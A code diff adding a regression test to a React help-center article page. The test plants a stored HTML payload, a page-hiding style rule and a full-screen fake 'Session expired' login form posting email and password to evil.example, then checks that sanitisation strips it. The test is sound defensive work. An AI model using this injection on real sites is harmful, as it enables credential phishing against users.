@@ -1,3 +1,4 @@
+import { getDb } from '@atrium/mock-api';
 import { screen } from '@testing-library/react';
 import { forwardRef, type AnchorHTMLAttributes } from 'react';
 import { describe, expect, it, vi } from 'vitest';
@@ -33,5 +34,21 @@ describe('@atrium/pages/HelpCenterArticlePage', () => {
     renderPages(<HelpCenterArticlePage title="no-such-article" />);
     expect(await screen.findByText('Article not found', {}, { timeout: 10_000 })).toBeInTheDocument();
     expect(screen.getByRole('link', { name: 'Back to the help center' })).toHaveAttribute('href', '/front-pages/help-center');
+  });
+
+  // regression (issue 22): DOMPurify's defaults kept <form>, <style> and style=, so a stored article
+  // drew a full-screen fake "Session expired" sign-in form posting to another site
+  it('a stored article with a phishing form shows its text without the form, the inputs or the overlay', async () => {
+    const article = getDb().helpCenterArticles.find((a) => a.slug === 'how-do-i-return-an-item');
+    if (!article) throw new Error('seed article missing');
+    article.productContent =
+      '<style>body>*{visibility:hidden}</style><div style="position:fixed;inset:0;z-index:2147483647;background:#fff">' +
+      '<h2>Session expired</h2><form action="https://evil.example/collect" method="post"><input name="email">' +
+      '<input type="password" name="password"><button>Sign in again</button></form></div>';
+    const { container } = renderPages(<HelpCenterArticlePage title="how-do-i-return-an-item" />);
+    expect(await screen.findByText('Session expired', {}, { timeout: 10_000 })).toBeInTheDocument();
+    expect(container.querySelector('form, input, style:not([data-mantine-styles]), [style*="fixed"]')).toBeNull();
+    expect(screen.queryByRole('button', { name: 'Sign in again' })).not.toBeInTheDocument();
+    expect(container.innerHTML).not.toContain('evil.example');
   });
 });
